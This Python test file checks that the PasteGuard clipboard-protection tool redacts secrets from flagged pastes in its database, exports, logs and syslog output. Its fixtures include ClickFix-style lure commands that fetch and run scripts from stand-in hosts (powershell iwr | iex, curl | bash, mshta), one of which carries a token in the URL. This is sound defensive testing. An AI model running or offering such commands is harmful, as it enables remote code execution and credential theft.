"""Privacy end to end: what PasteGuard writes anywhere (its database, its log, a real collector).

Clean and info text is never written anywhere; secrets inside flagged text are redacted; a
password manager's item is never stored or forwarded. The proof searches every byte of every
file the app wrote, plus everything it logged and everything rsyslog received.
"""

from __future__ import annotations

import io
import json
import logging
import shutil
import time
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.config import ForwardSettings
from app.detection import Engine, Level, PasteTarget
from app.detection.indicators import defang
from app.forwarding.ecs import to_ecs
from app.forwarding.forwarder import Forwarder, sinks_from_settings
from app.guard.provenance import Provenance
from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning
from app.platform.base import KeyEvent, MouseEvent, WindowInfo
from app.storage import EventFilter, EventStore
from app.storage.export import FORMATS, write_export
from tests.app.forwarding.rsyslog import Rsyslog

pytestmark = pytest.mark.slow

WEB = Provenance(source_url="https://captcha.example/verify")
CLEAN = "Lunch at noon? CLEANMARK-71a3"
INFO = "curl -fsSL https://bun.sh/install | bash # INFOMARK-5e21"
JWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJKV1RNQVJLIn0.c2lnbmF0dXJlLWp3dG1hcms"
GITHUB = "ghp_" + "Q" * 32 + "GHMARK"
SUSPICIOUS = (
    f"curl -fsSL https://admin:PASSMARK-9d0c@unknown-vendor.example/i.sh?t={GITHUB} | sh # {JWT}"
)
# a neutralised original is kept in quarantine so that it can be restored, until forgotten
QUARANTINED = "ghp_" + "Z" * 32 + "QMARK"  # redacted in the event, raw in quarantine
MALICIOUS = f'powershell -w h -c "iwr https://evil.test/a.ps1?k={QUARANTINED} | iex"'
SECRET = "hunter2 PMSECRET-4242 mshta https://evil.test/x"
NEVER = ("CLEANMARK", "INFOMARK", "PMSECRET", "PASSMARK", JWT, GITHUB, "GHMARK")
FORGOTTEN = (QUARANTINED,)


class UI:
    def __init__(self) -> None:
        self.replaced: list[str] = []

    def replace_clipboard(self, expected_digest: str, text: str) -> None:
        self.replaced.append(text)

    def notify(self, title: str, message: str, restore_event_id: int | None = None) -> None:
        logging.getLogger("pasteguard.tray").info("notice: %s - %s", title, message)

    def warn(self, warning: PasteWarning) -> None:
        logging.getLogger("pasteguard.tray").info("warning: %s", warning.verdict.summary)

    def state_changed(self) -> None:
        pass


@dataclass(frozen=True)
class Gesture:
    kind: str = "paste"
    hint: PasteTarget | None = None


class Sequence:
    def feed(self, event: KeyEvent, window: WindowInfo | None = None) -> Gesture | None:
        return Gesture() if event.pressed and event.key == "v" else None

    def feed_mouse(self, event: MouseEvent) -> None:
        return None


class Terminal:
    def classify(self, window: WindowInfo | None, hint: PasteTarget | None) -> PasteTarget:
        return PasteTarget.TERMINAL


def every_byte(folder: Path) -> Mapping[Path, bytes]:
    return {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_nothing_private_reaches_disk_logs_or_the_collector(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    collector = Rsyslog(tmp_path / "rsyslog")
    collector.start()
    data = tmp_path / "data"
    try:
        sinks = sinks_from_settings(ForwardSettings(syslog=f"tcp://127.0.0.1:{collector.port}"))
        store = EventStore.open(data, sinks=list(sinks))
        engine = Engine(strict=True)
        assert engine.analyze(INFO).level is Level.INFO  # the INFO sample really is info
        ui = UI()
        service = GuardService(engine, store, ui, Sequence(), Terminal(), lambda: None, True,
                               GuardSettings(mode="block"))  # fmt: skip
        for text, provenance in (
            (CLEAN, WEB), (INFO, Provenance()), (SUSPICIOUS, WEB), (MALICIOUS, WEB),
            (SECRET, Provenance(secret=True)),
        ):  # fmt: skip
            service.clipboard_changed(ClipboardChange(text, provenance))
            service.process_pending()
            service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), 0.0))
            service.process_pending()
        forwarder = Forwarder(store, sinks, strict=True)
        forwarder.run_once()
        total = store.count()
        collector.wait_for_ids(set(range(1, total + 1)), timeout=10)
        forwarder.close()
        store.close()
    finally:
        collector.stop()

    reopened = EventStore.open(data)
    kinds = {e.kind for e in reopened.query()}
    assert {"clipboard_flagged", "clipboard_neutralized", "paste_blocked"} <= kinds
    item = reopened.quarantined()
    assert item is not None and QUARANTINED in item.text  # restorable...
    reopened.delete_all()  # ...until the person forgets it
    reopened.close()
    files = {**every_byte(data), **every_byte(tmp_path / "rsyslog")}
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert files, "the app wrote no file at all: the search below would prove nothing"
    collected = every_byte(tmp_path / "rsyslog")
    for marker in FORGOTTEN:  # the collector never got the original; the store forgot it
        assert all(marker.encode() not in c for c in files.values()), marker
    assert collected, "rsyslog received nothing: the search would prove nothing"
    for marker in NEVER:
        for path, content in files.items():
            assert marker.encode() not in content, f"{marker!r} leaked into {path}"
        assert marker not in logged, f"{marker!r} leaked into the log"
    everything = b"".join(files.values())
    # flagged text is kept (defanged, redacted): the search above looks in the right places
    assert b"unknown-vendor[.]example" in everything and b"[REDACTED:jwt]" in everything
    assert b"[REDACTED:github-token]" in everything


# -- credentials in flagged commands (property test) -----------------------------------------

# A secret starts with a letter or digit (a leading "-" or "/" is read as a switch by the
# programs below) and holds no quote, backslash, blank or shell control character (unquoted,
# the shell would end the word there). JSON and CSV then write it unchanged, so a byte search
# of every output finds any copy that survived.
_FIRST = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
_SHELL_SAFE = _FIRST + "!#$%*+-./:=?@^_~,{}"
_URL_SAFE = _FIRST + "-._~"
_TOKEN68 = _FIRST + "-._~+/"


def _secret(alphabet: str) -> st.SearchStrategy[str]:
    return st.builds(
        "".join,
        st.tuples(st.sampled_from(_FIRST), st.text(alphabet, min_size=7, max_size=23)),
    )


# (how a person or a lure writes the credential, the characters it can hold)
FORMS: tuple[tuple[str, str], ...] = (
    ("Password: {s}", _SHELL_SAFE),
    ("mysql -u root -p{s} -h db.internal", _SHELL_SAFE),
    ("mysqldump --password {s} shop > x.sql", _SHELL_SAFE),
    ("sshpass -p {s} ssh admin@10.0.0.5", _SHELL_SAFE),
    ("sshpass -p '{s}' scp x admin@10.0.0.5:", _SHELL_SAFE),
    ("net user helpdesk {s} /add", _SHELL_SAFE),
    ("PGPASSWORD={s} psql -h db -U app", _SHELL_SAFE),
    ("$p = ConvertTo-SecureString '{s}' -AsPlainText -Force", _SHELL_SAFE),
    ('ConvertTo-SecureString -String "{s}" -AsPlainText -Force', _SHELL_SAFE),
    ("curl -fsSL -u deploy:{s} https://ci.example/api", _SHELL_SAFE),
    ("curl --user deploy:{s} https://ci.example/api", _SHELL_SAFE),
    ("curl -H 'Authorization: Bearer {s}' https://api.example/v1", _TOKEN68),
    ('curl -H "Authorization: token {s}" https://api.example/v1', _TOKEN68),
    ("iwr https://cdn.example/a.ps1?token={s} | iex", _URL_SAFE),
    ("iwr https://deploy:{s}@cdn.example/a.ps1 | iex", _URL_SAFE),
    ("Server=db;User Id=sa;Password={s};Database=shop", _SHELL_SAFE),
    ("mongodb://app:{s}@db.example:27017/shop", _URL_SAFE),
    ("export GITHUB_TOKEN={s}", _SHELL_SAFE),
    ("set DB_PASS={s}", _SHELL_SAFE),
    ("$env:API_SECRET = '{s}'", _SHELL_SAFE),
    ("docker login -u ci --password {s}", _SHELL_SAFE),
    ("Invoke-Sqlcmd -Username sa -Password {s}", _SHELL_SAFE),
)
# Commands the engine flags whatever follows them: the credential rides inside a lure.
LURES = (
    'powershell -w hidden -nop -c "iwr https://evil.test/s.ps1 | iex"; {form}',
    "{form}\ncurl -s http://203.0.113.9/x.sh | bash",
    "mshta https://evil.test/verify.hta && {form}  # I am not a robot - Verification ID: 4417",
)


@st.composite
def credential(draw: st.DrawFn) -> tuple[str, str]:
    form, alphabet = draw(st.sampled_from(FORMS))
    secret = draw(_secret(alphabet))
    return form.format(s=secret), secret


@st.composite
def flagged_paste(draw: st.DrawFn) -> tuple[str, str, list[str]]:
    """(clipboard text, the page's URL, the secrets both hold)"""
    pairs = draw(st.lists(credential(), min_size=1, max_size=3))
    lure = draw(st.sampled_from(LURES))
    text = lure.format(form="; ".join(form for form, _ in pairs))
    page_secret = draw(_secret(_URL_SAFE))
    name = draw(st.sampled_from(("token", "access_token", "sig", "code", "api_key")))
    url = f"https://captcha.example/verify?session=7&{name}={page_secret}#top"
    return text, url, [s for _, s in pairs] + [page_secret]


def test_no_generated_credential_survives_anywhere(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Credentials in the forms the issue lists, inside flagged commands and in the page's URL:
    none survives in the database, the three exports, the log or a real rsyslog collector."""
    caplog.set_level(logging.DEBUG)
    collector = Rsyslog(tmp_path / "rsyslog")
    collector.start()
    engine = Engine(strict=True)
    runs = iter(range(10_000))
    checked: list[int] = []  # secrets looked for, over every example

    @settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
    @given(flagged_paste())
    def check(paste: tuple[str, str, list[str]]) -> None:
        text, url, secrets = paste
        caplog.clear()
        folder = tmp_path / f"run{next(runs)}"
        data = folder / "data"
        sinks = sinks_from_settings(ForwardSettings(syslog=f"tcp://127.0.0.1:{collector.port}"))
        store = EventStore.open(data, sinks=list(sinks), verify=False)
        service = GuardService(engine, store, UI(), Sequence(), Terminal(), lambda: None, True,
                               GuardSettings(mode="block"))  # fmt: skip
        before = len(collector.records())
        service.clipboard_changed(ClipboardChange(text, Provenance(source_url=url)))
        service.process_pending()
        service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), 0.0))
        service.process_pending()
        flagged = store.query()
        assert any(e.level in ("suspicious", "malicious") for e in flagged), text
        forwarder = Forwarder(store, sinks, strict=True)
        forwarder.run_once()
        forwarder.close()
        total = store.count()
        deadline = time.monotonic() + 10
        while len(collector.records()) < before + total and time.monotonic() < deadline:
            time.sleep(0.02)
        received = collector.records()[before:]
        assert len(received) >= total, "the collector did not receive every event"
        exports = {}
        for fmt in FORMATS:
            out = io.StringIO()
            write_export(store, EventFilter(), fmt, out, ecs=to_ecs)
            exports[fmt] = out.getvalue()
        for item_id in [i.id for i in [store.quarantined()] if i is not None]:
            store.release(item_id)  # the original is kept only until restored or forgotten
        store.close()
        outputs = {str(p): b for p, b in every_byte(data).items()}
        outputs.update({f"export.{k}": v.encode() for k, v in exports.items()})
        outputs["rsyslog"] = json.dumps(received).encode()
        outputs["log"] = "\n".join(r.getMessage() for r in caplog.records).encode()
        found = []
        for secret in secrets:
            for where, content in outputs.items():
                if secret.encode() in content or defang(secret).encode() in content:
                    found.append((secret, where))
        shutil.rmtree(folder)
        checked.append(len(secrets))
        assert not found, f"secrets survived: {found[:5]} (text {text!r})"

    try:
        check()
    finally:
        collector.stop()
    print(f"{sum(checked)} generated secrets in {len(checked)} flagged pastes: none survived")
